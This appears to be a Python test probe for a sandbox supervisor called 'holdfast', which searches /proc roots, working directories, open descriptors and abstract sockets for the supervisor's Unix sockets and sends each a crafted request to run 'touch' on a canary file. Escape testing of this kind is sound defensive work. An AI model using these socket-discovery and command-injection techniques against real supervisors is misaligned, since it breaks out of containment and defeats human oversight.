"""Says to every supervisor that it can reach, by the way of $CASE, what a front would say; whom it reached is in `loot`."""
import glob, os, socket, struct

arena, canary, case = os.environ["ARENA"], os.environ["CANARY"], os.environ["CASE"]
runtime = arena + "/run/holdfast"
places = [runtime, arena + "/home/.local/state/holdfast/run"]
names = ["front-0123456789abcdef.sock", "serve-0123456789abcdef.sock"]
texts = ["/", "run", "--write", "/", "--", "touch", arena + "/" + canary]
body = struct.pack("<III", 0, len(texts) - 1, 0) + b"".join(text.encode() + b"\0" for text in texts)
question = b"HFQ1" + struct.pack("<I", len(body)) + body


def tell(stream):
    stream.settimeout(2)
    stream.sendall(question)
    with open(arena + "/ws/loot", "a") as loot:
        loot.write(canary + "\n")


def reach(address):
    try:
        with socket.socket(socket.AF_UNIX) as stream:
            stream.connect(address)
            tell(stream)
    except OSError:
        pass


def reach_below(directory):
    # A path of a socket holds 107 bytes: a descriptor of its directory makes it short.
    try:
        held = os.open(directory, os.O_PATH | os.O_DIRECTORY)
    except OSError:
        return
    for name in set(names) | set(os.listdir(f"/proc/self/fd/{held}")):
        if name.endswith(".sock"):
            reach(f"/proc/self/fd/{held}/{name}")
    os.close(held)


def use_descriptors():
    for descriptor in range(3, 256):
        try:
            with socket.socket(fileno=os.dup(descriptor)) as stream:
                stream.getpeername()
                tell(stream)
        except OSError:
            pass


if case in ("process-root", "real", "real-network"):
    for root in glob.glob("/proc/[0-9]*/root"):
        for place in places:
            reach_below(root + place)
if case in ("process-directory", "real", "real-network"):
    for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
        for below in ("", "/../run/holdfast", "/../home/.local/state/holdfast/run"):
            reach_below(link + below)
if case in ("process-descriptor", "real", "real-network"):
    use_descriptors()
if case.startswith(("abstract", "real")):
    for place in places:
        for name in names:
            reach(f"\0{place}/{name}")
if case.startswith(("runtime", "state", "real")):
    for place in places:
        reach_below(place)
